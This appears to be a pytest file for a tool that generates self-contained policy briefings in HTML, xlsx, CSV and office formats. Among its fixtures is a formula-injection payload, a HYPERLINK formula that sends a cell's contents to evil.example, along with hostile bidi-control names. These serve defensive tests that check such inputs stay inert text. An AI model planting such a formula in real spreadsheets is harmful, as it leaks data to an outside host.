"""The files of a briefing: inert, self-contained, with the stored numbers, the same bytes from the same results."""

import csv
import io
import json
import re
from hashlib import sha256
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from briefing_reader import parts_of, sheets_of, words_of, written
from made_page import HOSTILE, Reader, a_document

from experiments.briefing import folder as folders
from experiments.briefing.folder import check_free, make, publish
from experiments.briefing.results import read
from experiments.cli import main
from scenarios.problems import InputError

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = ("base", LINK, "+1\u202eevil" + "W" * 300, "+1evil" + "W" * 299 + "V", HOSTILE)
MARKS = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\x00-\x08\x0b\x0c\x0e-\x1f]")
NO_BROWSER = "no such browser"


def office_files(files):
    return [name for name in ("briefing.docx", "briefing.pptx") if name in files]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    names = NAMES[:3]
    document = a_document(names=names)
    document["scenarios"][1]["question"] = LINK
    return make(read(str(written(document, tmp_path_factory.mktemp("hostile")))), browser=NO_BROWSER).files


def test_everything_is_there_that_needs_no_browser(files):
    assert {"briefing.html", "results.xlsx", "manifest.json", "data/leading.csv", "data/verdicts.csv"} <= set(files)
    assert not any(name.endswith((".pdf", ".png", ".svg")) for name in files)


def test_what_joins_signs_and_units_is_in_the_page_and_in_no_table_of_data(files):
    joined = ("\u2060£".encode(), "\u00a0points".encode(), "\u00a0days".encode())
    assert joined[0] in files["briefing.html"]
    data = {name: content for name, content in files.items() if name.endswith(".csv")}
    data |= {f"results.xlsx/{name}": content for name, content in parts_of(files["results.xlsx"]).items()}
    assert len(data) > 20
    assert not [name for name, content in data.items() if any(each in content for each in joined)]


def test_the_page_is_self_contained_and_small(files):
    html = files["briefing.html"].decode()
    page = Reader(html)
    assert page.all("html") == [{"lang": "en-GB"}] and html.count("<title>") == 1
    assert len(html.encode()) < 1_500_000
    policy = next(a["content"] for a in page.all("meta") if a.get("http-equiv") == "Content-Security-Policy")
    assert policy.startswith("default-src 'none';") and "http" not in policy
    assert [a for _, a in page.elements if "src" in a or "srcset" in a or "action" in a] == []
    assert all(a["href"].startswith(("#", "data:,")) for _, a in page.elements if "href" in a)
    ids = [a["id"] for _, a in page.elements if "id" in a]
    assert len(ids) == len(set(ids))
    assert {a["href"].removeprefix("#") for _, a in page.elements if a.get("href", "").startswith("#")} <= set(ids)


def test_the_short_version_comes_first_and_can_stand_alone(results, files):
    text = Reader(files["briefing.html"].decode()).text
    order = [
        "What was asked", "What the model says", "How large, with the range", "Who gains, who loses", "How sure",
        "What it rests on", "What would change it", "Limits", "Use until", "The long version", "Annex G",
    ]  # fmt: skip
    places = [text.index(words) for words in order]
    assert places == sorted(places)
    alone = Reader(make(results, short=True, browser=NO_BROWSER).files["briefing.html"].decode())
    assert "The long version" not in alone.text and "Use until" in alone.text and len(alone.figures) == 1


def test_the_fingerprint_the_seed_and_the_days_stand_on_it(files):
    text = Reader(files["briefing.html"].decode()).text
    days = "Made on 31 March 2026. Do not use after 31 March 2027"
    for words in ("0123456789abcdef", "version 0.1.0, c0de", "ev1d", days):
        assert words in text


def cells(content):
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_numbers_in_csv_and_workbook_are_the_stored_ones(document, files):
    rows = cells(files["data/verdicts.csv"])
    head, stored = rows[0], document["verdicts"]
    assert len(rows) == len(stored) + 1
    sheet = sheets_of(files["results.xlsx"])["verdicts"]
    assert sheet[2] == head
    for row, line, own in zip(stored, sheet[3:], rows[1:], strict=True):
        as_csv = dict(zip(head, own, strict=True))
        for key in ("baseline", "difference", "low", "high", "share_above"):
            assert float(as_csv[key]) == row[key] and row[key] in line
    series = cells(files["data/cg_backlog_series.csv"])
    values = {(r["scenario"], r["year"]): r["value"] for r in document["outcomes"] if r["name"] == "cg_backlog"}
    for line in series[1:]:
        for name, value in zip(series[0], line, strict=True):
            if (name, int(line[0])) in values:
                assert float(value) == values[name, int(line[0])]


def test_the_workbook_keeps_to_the_guidance(files):
    sheets, parts = sheets_of(files["results.xlsx"]), parts_of(files["results.xlsx"])
    assert list(sheets)[:3] == ["cover", "contents", "notes"] and all(rows[0][0] for rows in sheets.values())
    tables = [name for name in parts if name.startswith("xl/tables/")]
    assert len(tables) == len(sheets) - 2  # one a sheet, the contents among them; cover and notes are lists
    xml = b"".join(part for name, part in parts.items() if name.startswith("xl/worksheets/sheet"))
    assert b"mergeCell" not in xml and b"<f>" not in xml
    drawings = [part for name, part in parts.items() if re.match(r"xl/drawings/drawing\d+\.xml", name)]
    assert len(drawings) == 4 and all(b'descr="' in part for part in drawings)
    charts = [part for name, part in parts.items() if name.startswith("xl/charts/chart")]
    assert len(charts) == 4 and any(b"errBars" in part for part in charts)


def test_hostile_names_stay_text_in_page_and_tables(hostile):
    html = hostile["briefing.html"].decode()
    page = Reader(html)
    assert len(page.scripts) == 3 and {tag for tag, _ in page.elements}.isdisjoint({"img", "b", "iframe"})
    assert not any(name.startswith("on") for _, attributes in page.elements for name in attributes)
    assert not MARKS.search(html) and "W" * 401 not in page.text
    assert LINK in page.text
    for name, content in hostile.items():
        if name.endswith(".csv"):
            assert not [c for line in cells(content) for c in line if re.match(r"[=+@]|-[^\d.]", c)]
    sheets = sheets_of(hostile["results.xlsx"])  # fails on any formula
    assert LINK in {cell for rows in sheets.values() for line in rows for cell in line}
    assert not MARKS.search(str(sheets)) and b"evil.example" not in b"".join(
        part for name, part in parts_of(hostile["results.xlsx"]).items() if name.endswith(".rels")
    )  # fmt: skip


def test_names_that_begin_alike_are_told_apart(tmp_path):
    names = ("base", "W" * 299 + "a", "W" * 299 + "b")
    shown = read(str(written(a_document(names=names), tmp_path))).shown
    first, second = [s["name"] for s in shown["scenarios"]][1:]
    assert first != second and {r["scenario"] for r in shown["verdicts"]} == {first, second}
    marks = ("base", "X\u202e", "X")
    shown = read(str(written(a_document(names=marks), tmp_path))).shown
    assert len({s["name"] for s in shown["scenarios"]}) == 3


def test_hostile_names_stay_text_in_documents_and_slides(hostile):
    pytest.importorskip("docx")
    pytest.importorskip("pptx")
    for file in office_files(hostile):
        said = " ".join(words_of(hostile[file]))
        assert LINK in said and not MARKS.search(said)
        links = b"".join(part for name, part in parts_of(hostile[file]).items() if name.endswith(".rels"))
        assert b"hyperlink" not in links and b"evil.example" not in links


def test_documents_and_slides_say_what_the_page_says(files):
    pytest.importorskip("docx")
    pytest.importorskip("pptx")
    page = " ".join(Reader(files["briefing.html"].decode()).text.split())
    for file in office_files(files):
        for words in words_of(files[file]):
            if (
                len(words) > 20
                and not words.rstrip().endswith(":")
                and not re.search("Fingerprint|in the workbook", words)
            ):
                assert " ".join(words.split()) in page, (file, words)
    slides = parts_of(files["briefing.pptx"])
    charts = [part for name, part in slides.items() if re.match(r"ppt/charts/chart\d+\.xml", name)]
    assert len(charts) == 1 and b"errBars" in charts[0]
    described = [part for name, part in slides.items() if name.startswith("ppt/slides/") and b"graphicFrame" in part]
    assert described and all(b'descr="' in part for part in described)


def test_the_same_results_give_the_same_bytes(results, files):
    assert make(results, browser=NO_BROWSER).files == files


def test_the_manifest_holds_a_hash_of_every_file_and_nothing_of_the_machine(files, results):
    manifest = json.loads(files["manifest.json"])
    assert manifest["files"] == {n: sha256(c).hexdigest() for n, c in files.items() if n != "manifest.json"}
    assert manifest["results_sha256"] == results.sha256 and manifest["made"] == "2026-03-31"
    assert manifest["inputs"]["scenarios"] and manifest["seed"] == 7 and manifest["use_until"] == "2027-03-31"
    assert "/" not in re.sub(r'"(data|figures)/', "", files["manifest.json"].decode())


def test_a_folder_is_written_whole_or_not_at_all(files, tmp_path, monkeypatch):
    out = tmp_path / "deep" / "out"
    publish(out, files)
    assert {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} == set(files)
    (out / "stray.txt").write_text("of an earlier briefing")
    publish(out, files)
    assert not (out / "stray.txt").exists() and list(out.parent.iterdir()) == [out]

    def full(*_):
        raise OSError(28, "No space left on device")

    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    monkeypatch.setattr(folders.os, "fsync", full)
    for target in (out, tmp_path / "deep" / "other"):
        with pytest.raises(OSError, match="No space"):
            publish(target, files)
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before and list(out.parent.iterdir()) == [out]


def test_a_folder_of_something_else_is_left_alone(files, tmp_path):
    (tmp_path / "letters").mkdir()
    (tmp_path / "letters" / "manifest.json").write_text('{"kind": "sweep of survivor-journeys"}')
    with pytest.raises(InputError, match="something else than a briefing"):
        publish(tmp_path / "letters", files)
    (tmp_path / "link").symlink_to(tmp_path / "letters")
    with pytest.raises(InputError, match="is no folder"):
        check_free(tmp_path / "link")
    (tmp_path / "empty").mkdir()
    publish(tmp_path / "empty", files)
    assert (tmp_path / "empty" / "briefing.html").exists()


def test_the_command_writes_says_where_and_what_is_missing(document, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("PATH", "")
    out = tmp_path / "out"
    words = ["brief", str(written(document, tmp_path)), "--out", str(out), "--date", "2026-05-06", "--short"]
    assert main(words) == 0
    said = capsys.readouterr()
    assert said.out == f"briefing: {out / 'briefing.html'}\n"
    assert "no browser was found, so briefing.pdf and pictures are left out: install Chromium" in said.err
    assert json.loads((out / "manifest.json").read_text())["made"] == "2026-05-06"
    assert "Made on 6 May 2026" in (out / "briefing.html").read_text()


def test_a_browser_that_fails_takes_nothing_else_with_it(results, tmp_path):
    broken = tmp_path / "broken"
    broken.write_text("#!/bin/sh\nexit 3\n")
    broken.chmod(0o755)
    made = make(results, browser=str(broken))
    assert any("broken failed (status 3)" in sentence for sentence in made.left_out)
    assert "briefing.pdf" not in made.files and "results.xlsx" in made.files


class Headings(HTMLParser):
    """Reads the levels of headings of a page."""

    def __init__(self, html):
        super().__init__()
        self.levels = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        if re.fullmatch(r"h[1-4]", tag):  # single pictures of a chart are below
            self.levels.append(int(tag[1]))


def test_headings_go_down_one_level_at_a_time(files):
    levels = Headings(files["briefing.html"].decode()).levels
    assert levels[0] == 1 and all(after - before <= 1 for before, after in pairwise(levels))
